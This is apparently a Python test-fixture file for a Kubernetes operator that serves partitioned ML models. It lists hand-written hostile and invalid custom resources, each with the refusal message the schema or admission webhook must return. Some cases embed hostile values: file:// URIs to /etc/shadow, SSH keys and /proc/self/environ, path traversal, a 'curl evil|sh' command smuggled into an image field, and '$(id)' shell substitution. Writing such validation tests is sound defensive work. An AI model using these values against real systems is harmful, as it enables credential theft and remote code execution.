"""Hand-written hostile and invalid custom resources, each with the words its refusal must say.

The generated variants (``invalid_crs``) break one bound of the schema at a time; these are
what a new user or a hostile tenant writes by hand, by class: URIs followed on the node or
in the operator, references across namespaces and consent, names the derived objects cannot
take, values with no bounds or meaning. Each case runs in a small world of two providers
(``WORLD``): ``LOCAL``'s Model ``toy`` and ``HOST``'s Model ``host``, which publishes only
its block ``h1``. A case is refused either by the schema (``layer="schema"``: patterns,
lengths, CEL) or by the operator's admission webhook (``layer="webhook"``: what needs other
objects or the operator's configuration).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

LOCAL = "<local>"
HOST = "<host>"
"""Namespace placeholders, replaced by the namespaces a run makes."""

IMAGE_PREFIXES = ("nvcr.io/nvidia/tritonserver:",)
"""The image allow-list the operator is run with for these cases."""

TOY: dict[str, Any] = {
    "artifact": {"uri": "s3://provider-a/toy.pt"},
    "input": {"name": "image", "datatype": "FP32", "shape": [1, 8, 8]},
    "output": {"name": "logits", "datatype": "FP32", "shape": [10]},
    "baselineAccuracy": 0.9,
    "catalog": {"uri": "configmap://toy-catalog/catalog.json"},
    "partition": {
        "blocks": [
            {"name": "b0", "firstLayer": 0, "lastLayer": 1},
            {"name": "b1", "firstLayer": 2, "lastLayer": 3, "exitHead": True},
            {"name": "b2", "firstLayer": 4, "lastLayer": 5},
            {"name": "b3", "firstLayer": 6, "lastLayer": 7},
        ]
    },
}
HOST_MODEL: dict[str, Any] = {
    "artifact": {"uri": "s3://provider-b/host.pt"},
    "input": {"name": "image", "datatype": "FP32", "shape": [1, 8, 8]},
    "output": {"name": "logits", "datatype": "FP32", "shape": [10]},
    "baselineAccuracy": 0.95,
    "homeTier": "edge",
    "partition": {
        "blocks": [
            {"name": "h0", "firstLayer": 0, "lastLayer": 1},
            {"name": "h1", "firstLayer": 2, "lastLayer": 3},
            {"name": "h2", "firstLayer": 4, "lastLayer": 5},
        ]
    },
    "publish": {
        "taskFamily": "image-classification",
        "architectureFamily": "cnn",
        "exposedBlocks": ["h1"],
    },
}
BLOCK: dict[str, Any] = {
    "modelRef": {"name": "toy"},
    "partitions": {"first": 0, "last": 3},
    "tier": "local",
    "replicas": 1,
    "resources": {"cpu": "500m", "memory": "1Gi", "gpu": 0},
    "modelRepository": {"uri": "s3://provider-a/repo", "format": "triton-repository"},
}
HOST_BLOCK: dict[str, Any] = {
    **BLOCK,
    "modelRef": {"name": "host"},
    "partitions": {"first": 0, "last": 2},
    "tier": "edge",
    "modelRepository": {"uri": "s3://provider-b/repo", "format": "triton-repository"},
}
SKIP: dict[str, Any] = {
    "type": "skip",
    "from": {"model": {"name": "toy"}, "block": 0},
    "to": {"model": {"name": "toy"}, "block": 2},
    "architecture": {"type": "conv", "reduction": 1},
    "artifact": {"uri": "s3://provider-a/skip.pt"},
    "servedBy": {"name": "toy-all"},
}
XIN: dict[str, Any] = {
    "type": "cross-entry",
    "from": {"model": {"name": "toy", "namespace": LOCAL}, "block": 0},
    "to": {"model": {"name": "host"}, "block": 1},
    "architecture": {"type": "conv"},
    "artifact": {"uri": "s3://provider-b/xin.pt"},
    "servedBy": {"name": "host-all"},
}
POLICY: dict[str, Any] = {
    "modelRef": {"name": "toy"},
    "latencyBoundMicroseconds": 20000,
    "allPaths": True,
    "allowedHosts": [{"namespace": HOST, "model": "host"}],
    "earlyExits": [{"block": 1, "confidence": 0.8}],
}

WORLD: list[tuple[str, str, str, dict[str, Any]]] = [
    ("Model", LOCAL, "toy", TOY),
    ("Model", HOST, "host", HOST_MODEL),
    ("Block", LOCAL, "toy-all", BLOCK),
    ("Block", HOST, "host-all", HOST_BLOCK),
]
"""(kind, namespace, name, spec) of the objects the cases refer to, created first."""

VALID: list[tuple[str, str, str, dict[str, Any]]] = [
    ("Link", LOCAL, "toy.skip.0-2.normal", SKIP),
    ("Link", HOST, "host.xin.toy.0-1.normal", XIN),
    ("OffloadPolicy", LOCAL, "toy", POLICY),
]
"""Valid objects of the world: each is admitted, so the refusals below are the breaks'."""


@dataclass(frozen=True)
class HostileCase:
    id: str
    klass: str
    """uri, reference, consent, name, value."""
    kind: str
    namespace: str
    name: str
    spec: dict[str, Any]
    expect: str
    """What the refusal's message must contain: the field, or the reason."""
    layer: str = "schema"
    """schema (patterns, lengths, CEL: the API server alone) or webhook (the operator)."""

    def resolved(self, local: str, host: str) -> dict[str, Any]:
        return resolve(self.spec, local, host)


def resolve(spec: dict[str, Any], local: str, host: str) -> dict[str, Any]:
    """``spec`` with the namespace placeholders replaced."""
    result: dict[str, Any] = _substitute(spec, {LOCAL: local, HOST: host})
    return result


def _substitute(node: Any, names: dict[str, str]) -> Any:
    if isinstance(node, dict):
        return {k: _substitute(v, names) for k, v in node.items()}
    if isinstance(node, list):
        return [_substitute(v, names) for v in node]
    if isinstance(node, str):
        return names.get(node, node)
    return node


def changed(base: dict[str, Any], **paths: Any) -> dict[str, Any]:
    """A copy of ``base`` with dotted paths (``__`` for dots, digits index lists) set."""
    out = copy.deepcopy(base)
    for dotted, value in paths.items():
        keys = dotted.split("__")
        node: Any = out
        for key in keys[:-1]:
            node = node[int(key)] if key.isdigit() else node.setdefault(key, {})
        last = keys[-1]
        if last.isdigit():
            node[int(last)] = value
        else:
            node[last] = value
    return out


def _c(
    id_: str,
    klass: str,
    kind: str,
    spec: dict[str, Any],
    expect: str,
    *,
    layer: str = "schema",
    namespace: str = LOCAL,
    name: str = "hostile",
) -> HostileCase:
    return HostileCase(id_, klass, kind, namespace, name, spec, expect, layer)


_BLOCKS = TOY["partition"]["blocks"]
_XOUT = {
    **XIN,
    "type": "cross-exit",
    "from": {"model": {"name": "host"}, "block": 1},
    "to": {"model": {"name": "toy", "namespace": LOCAL}, "block": 3},
}

# One case a line: the table reads as a table.
# fmt: off
CASES: list[HostileCase] = [
    # -- URIs followed on the node or in the operator
    _c("block-hostpath-root", "uri", "Block", changed(BLOCK, modelRepository={"uri": "file:///", "format": "triton-repository"}), "spec.modelRepository.uri", layer="webhook"),
    _c("block-hostpath-etc", "uri", "Block", changed(BLOCK, modelRepository={"uri": "file:///etc/kubernetes"}), "file:// names a path on a node", layer="webhook"),
    _c("block-hostpath-var-run", "uri", "Block", changed(BLOCK, modelRepository={"uri": "file:///var/run/containerd"}), "refused in cluster mode", layer="webhook"),
    _c("model-catalog-file", "uri", "Model", changed(TOY, catalog={"uri": "file:///etc/shadow"}), "spec.catalog.uri", layer="webhook", name="toy2"),
    _c("model-catalog-proc", "uri", "Model", changed(TOY, catalog={"uri": "file:///proc/self/environ"}), "spec.catalog.uri", layer="webhook", name="toy3"),
    _c("model-artifact-file", "uri", "Model", changed(TOY, artifact={"uri": "file:///root/.ssh/id_rsa"}), "spec.artifact.uri", layer="webhook", name="toy4"),
    _c("link-artifact-file", "uri", "Link", changed(SKIP, artifact={"uri": "file:///etc/passwd"}), "spec.artifact.uri", layer="webhook", name="toy.skip.0-2.file"),
    _c("link-artifact-torchscript", "value", "Link", changed(SKIP, artifact={"uri": "s3://bucket/link.pt", "format": "torchscript"}), "spec.artifact.format", layer="webhook", name="toy.skip.0-2.ts"),
    _c("model-catalog-s3", "uri", "Model", changed(TOY, catalog={"uri": "s3://bucket/catalog.json"}), "spec.catalog.uri", name="toy5"),
    _c("model-catalog-https", "uri", "Model", changed(TOY, catalog={"uri": "https://evil.example/catalog.json"}), "spec.catalog.uri", name="toy6"),
    _c("pvc-subpath-dotdot", "uri", "Block", changed(BLOCK, modelRepository={"uri": "pvc://repo/../../etc"}), "spec.modelRepository.uri"),
    _c("pvc-subpath-dotdot-end", "uri", "Block", changed(BLOCK, modelRepository={"uri": "pvc://repo/models/.."}), "'..' path segment"),
    _c("pvc-bad-claim", "uri", "Block", changed(BLOCK, modelRepository={"uri": "pvc://Bad_Claim/x"}), "spec.modelRepository.uri"),
    _c("configmap-dotdot", "uri", "Model", changed(TOY, catalog={"uri": "configmap://../kube-system/x"}), "spec.catalog.uri", name="toy7"),
    _c("uri-with-space", "uri", "Block", changed(BLOCK, modelRepository={"uri": "s3://bucket/a b"}), "spec.modelRepository.uri"),
    _c("uri-unknown-scheme", "uri", "Block", changed(BLOCK, modelRepository={"uri": "ftp://host/repo"}), "spec.modelRepository.uri"),
    _c("uri-backslash", "uri", "Model", changed(TOY, artifact={"uri": "https://host/m\\..\\..\\etc"}), "spec.artifact.uri", name="toy8"),
    _c("dimee-pools-dotdot", "uri", "OffloadPolicy", changed(POLICY, dimee={"enabled": True, "pools": "/models/../../etc/x.json"}), "spec.dimee.pools", name="pol-pools1"),
    _c("dimee-pools-not-json", "uri", "OffloadPolicy", changed(POLICY, dimee={"enabled": True, "pools": "/etc/shadow"}), "spec.dimee.pools", name="pol-pools2"),
    _c("dimee-pools-empty", "uri", "OffloadPolicy", changed(POLICY, dimee={"enabled": True, "pools": ""}), "spec.dimee.pools", name="pol-pools3"),
    # -- references across namespaces
    _c("block-other-namespace-model", "reference", "Block", changed(BLOCK, modelRef={"name": "host", "namespace": HOST}), "spec.modelRef.namespace", layer="webhook"),
    _c("block-partition-beyond-model", "reference", "Block", changed(BLOCK, partitions={"first": 0, "last": 9}), "spec.partitions.last", layer="webhook"),
    _c("policy-other-namespace-model", "reference", "OffloadPolicy", changed(POLICY, modelRef={"name": "host", "namespace": HOST}, allowedHosts=[]), "spec.modelRef.namespace", layer="webhook", name="pol-ref1"),
    _c("policy-allowed-own-namespace", "reference", "OffloadPolicy", changed(POLICY, allowedHosts=[{"namespace": LOCAL}]), "spec.allowedHosts[0].namespace", layer="webhook", name="pol-ref2"),
    _c("policy-exit-without-head", "reference", "OffloadPolicy", changed(POLICY, earlyExits=[{"block": 2, "confidence": 0.8}]), "spec.earlyExits[0].block", layer="webhook", name="pol-ref3"),
    _c("policy-exit-beyond-model", "reference", "OffloadPolicy", changed(POLICY, earlyExits=[{"block": 9, "confidence": 0.8}]), "spec.earlyExits[0].block", layer="webhook", name="pol-ref4"),
    _c("policy-dimee-deeper-than-model", "reference", "OffloadPolicy", changed(POLICY, dimee={"enabled": True, "pools": "/m/p.json", "mobileLayers": 2, "edgeLayers": 40}), "spec.dimee.edgeLayers", layer="webhook", name="pol-ref5"),
    _c("link-skip-other-namespace", "reference", "Link", changed(SKIP, **{"from": {"model": {"name": "toy", "namespace": HOST}, "block": 0}, "to": {"model": {"name": "toy", "namespace": HOST}, "block": 2}}), "spec.from.model.namespace", layer="webhook", name="toy.skip.0-2.ns"),
    _c("link-skip-namespaces-differ", "reference", "Link", changed(SKIP, **{"from": {"model": {"name": "toy", "namespace": LOCAL}, "block": 0}, "to": {"model": {"name": "toy", "namespace": HOST}, "block": 2}}), "spec.to.model.namespace", name="toy.skip.0-2.ns2"),
    _c("link-skip-two-models", "reference", "Link", changed(SKIP, to={"model": {"name": "other"}, "block": 2}), "spec.to.model.name", name="toy.skip.0-2.two"),
    _c("link-block-beyond-model", "reference", "Link", changed(SKIP, to={"model": {"name": "toy"}, "block": 9}), "spec.to.block", layer="webhook", name="toy.skip.0-9.normal"),
    _c("link-from-beyond-model", "reference", "Link", changed(SKIP, **{"from": {"model": {"name": "toy"}, "block": 7}, "to": {"model": {"name": "toy"}, "block": 9}}), "spec.from.block", layer="webhook", name="toy.skip.7-9.normal"),
    _c("link-served-by-other-namespace", "reference", "Link", changed(SKIP, servedBy={"name": "host-all", "namespace": HOST}), "spec.servedBy.namespace", name="toy.skip.0-2.served"),
    _c("skip-lin-right-after-lout", "reference", "Link", changed(SKIP, to={"model": {"name": "toy"}, "block": 1}), "spec.to.block", name="toy.skip.0-1.normal"),
    _c("cross-entry-host-elsewhere", "reference", "Link", changed(XIN, to={"model": {"name": "host", "namespace": LOCAL}, "block": 1}), "spec.to.model.namespace", namespace=HOST, name="host.xin.toy.where"),
    _c("cross-link-same-model", "reference", "Link", changed(XIN, **{"from": {"model": {"name": "host"}, "block": 0}}), "spec.to.model", namespace=HOST, name="host.xin.host.same"),
    _c("cross-exit-host-elsewhere", "reference", "Link", changed(_XOUT, **{"from": {"model": {"name": "host", "namespace": LOCAL}, "block": 1}}), "spec.from.model.namespace", namespace=HOST, name="host.xout.toy.where"),
    # -- consent of the host
    _c("cross-entry-unexposed-block", "consent", "Link", changed(XIN, to={"model": {"name": "host"}, "block": 2}), "spec.to.block", layer="webhook", namespace=HOST, name="host.xin.toy.0-2.normal"),
    _c("cross-exit-unexposed-block", "consent", "Link", changed(_XOUT, **{"from": {"model": {"name": "host"}, "block": 0}}), "not in its spec.publish.exposedBlocks", layer="webhook", namespace=HOST, name="host.xout.toy.0-3.normal"),
    _c("cross-entry-into-local-ns", "consent", "Link", changed(XIN, servedBy={"name": "toy-all"}), "spec.from.model.namespace", layer="webhook", namespace=LOCAL, name="host.xin.toy.local"),
    _c("link-takes-host-block-name", "consent", "Link", XIN, "metadata.name", namespace=HOST, name="host.h1"),
    _c("link-takes-host-exit-name", "consent", "Link", XIN, "metadata.name", namespace=HOST, name="host.exit.1"),
    _c("model-exposes-unknown-block", "consent", "Model", changed(HOST_MODEL, publish={**HOST_MODEL["publish"], "exposedBlocks": ["zz"]}), "spec.publish.exposedBlocks", namespace=HOST, name="host2"),
    _c("model-exposes-twice", "consent", "Model", changed(HOST_MODEL, publish={**HOST_MODEL["publish"], "exposedBlocks": ["h1", "h1"]}), "spec.publish.exposedBlocks", namespace=HOST, name="host3"),
    # -- names the derived objects cannot take
    _c("block-name-dots", "name", "Block", BLOCK, "metadata.name", name="toy.all"),
    _c("block-name-too-long", "name", "Block", BLOCK, "metadata.name", name="b" * 57),
    _c("block-name-leading-digit", "name", "Block", BLOCK, "metadata.name", name="1block"),
    _c("model-name-dots", "name", "Model", TOY, "metadata.name", name="toy.v2"),
    _c("policy-name-dots", "name", "OffloadPolicy", POLICY, "metadata.name", name="pol.v2"),
    _c("policy-name-leading-digit", "name", "OffloadPolicy", POLICY, "metadata.name", name="9pol"),
    _c("model-ref-dots", "name", "Block", changed(BLOCK, modelRef={"name": "toy.v2"}), "spec.modelRef.name"),
    _c("node-pool-spaces", "name", "Block", changed(BLOCK, nodePool="pool a; rm"), "spec.nodePool"),
    _c("tensor-name-shell", "name", "Model", changed(TOY, input={"name": "$(id)", "datatype": "FP32", "shape": [1]}), "spec.input.name", name="toy9"),
    _c("host-namespace-invalid", "name", "OffloadPolicy", changed(POLICY, allowedHosts=[{"namespace": "Not_A_NS"}]), "spec.allowedHosts[0].namespace", name="pol-name1"),
    _c("host-model-too-long", "name", "OffloadPolicy", changed(POLICY, allowedHosts=[{"namespace": HOST, "model": "m" * 64}]), "spec.allowedHosts[0].model", name="pol-name2"),
    _c("candidate-path-too-long", "name", "OffloadPolicy", changed(POLICY, allPaths=False, candidatePaths=["p" * 254]), "spec.candidatePaths[0]", name="pol-name3"),
    # -- values with no bounds or meaning
    _c("image-shell", "value", "Block", changed(BLOCK, triton={"image": "nvcr.io/x; curl evil|sh"}), "spec.triton.image"),
    _c("image-too-long", "value", "Block", changed(BLOCK, triton={"image": "nvcr.io/" + "a" * 300}), "spec.triton.image"),
    _c("image-scheme", "value", "Block", changed(BLOCK, triton={"image": "https://evil.example/triton"}), "spec.triton.image"),
    _c("image-not-allowed", "value", "Block", changed(BLOCK, triton={"image": "docker.io/evil/miner:latest"}), "spec.triton.image", layer="webhook"),
    _c("memory-without-unit", "value", "Block", changed(BLOCK, resources={"cpu": "1", "memory": "2"}), "spec.resources.memory"),
    _c("memory-zero", "value", "Block", changed(BLOCK, resources={"cpu": "1", "memory": "0Gi"}), "spec.resources.memory"),
    _c("cpu-garbage", "value", "Block", changed(BLOCK, resources={"cpu": "1e9", "memory": "1Gi"}), "spec.resources.cpu"),
    _c("shm-without-unit", "value", "Block", changed(BLOCK, triton={"shmSize": "256"}), "spec.triton.shmSize"),
    _c("batch-size-above-max", "value", "Block", changed(BLOCK, triton={"maxBatchSize": 4, "dynamicBatching": {"preferredBatchSizes": [8]}}), "spec.triton.dynamicBatching.preferredBatchSizes"),
    _c("batch-sizes-duplicate", "value", "Block", changed(BLOCK, triton={"dynamicBatching": {"preferredBatchSizes": [4, 4]}}), "spec.triton.dynamicBatching.preferredBatchSizes"),
    _c("reduction-above-channels", "value", "Link", changed(SKIP, architecture={"type": "conv", "reduction": 32}, input={"name": "lout", "datatype": "FP32", "shape": [16, 8, 8]}), "spec.architecture.reduction", name="toy.skip.0-2.r32"),
    _c("reduction-above-features", "value", "Link", changed(SKIP, architecture={"type": "linear", "reduction": 64}, input={"name": "lout", "datatype": "FP32", "shape": [10]}), "spec.architecture.reduction", name="toy.skip.0-2.r64"),
    _c("tensor-zero-dim", "value", "Model", changed(TOY, input={"name": "image", "datatype": "FP32", "shape": [1, 0, 8]}), "spec.input.shape", name="toy10"),
    _c("duplicate-exit-rules", "value", "OffloadPolicy", changed(POLICY, earlyExits=[{"block": 1, "confidence": 0.8}, {"block": 1, "confidence": 0.5}]), "spec.earlyExits[1]", name="pol-val1"),
    _c("cost-margin-freezes", "value", "OffloadPolicy", changed(POLICY, hysteresis={"costMargin": 1.0, "minDwellSeconds": 30}), "spec.hysteresis.costMargin", name="pol-val2"),
    _c("large-margin-without-dwell", "value", "OffloadPolicy", changed(POLICY, hysteresis={"costMargin": 0.9, "minDwellSeconds": 0}), "spec.hysteresis.costMargin", name="pol-val7"),
    _c("all-zero-coefficients", "value", "OffloadPolicy", changed(POLICY, cost={"a": 0, "b": 0, "cLocal": 0, "cHost": 0, "dLocal": 0, "dHost": 0}), "spec.cost.a", name="pol-val3"),
    _c("accuracy-sensitivity-overflows", "value", "OffloadPolicy", changed(POLICY, cost={"a": 1000}), "spec.cost.a", name="pol-val4"),
    _c("duplicate-allowed-hosts", "value", "OffloadPolicy", changed(POLICY, allowedHosts=[{"namespace": HOST, "model": "host"}, {"namespace": HOST, "model": "host"}]), "spec.allowedHosts[1]", layer="webhook", name="pol-val5"),
    _c("duplicate-candidate-paths", "value", "OffloadPolicy", changed(POLICY, allPaths=False, candidatePaths=["toy/original", "toy/original"]), "spec.candidatePaths[1]", name="pol-val6"),
    _c("partition-gap", "value", "Model", changed(TOY, partition={"blocks": [_BLOCKS[0], {**_BLOCKS[1], "firstLayer": 3}]}), "spec.partition.blocks", name="toy11"),
    _c("partition-duplicate-names", "value", "Model", changed(TOY, partition={"blocks": [_BLOCKS[0], {**_BLOCKS[1], "name": "b0"}]}), "spec.partition.blocks[1]", name="toy12"),
]
# fmt: on


def case_ids() -> list[str]:
    return [c.id for c in CASES]
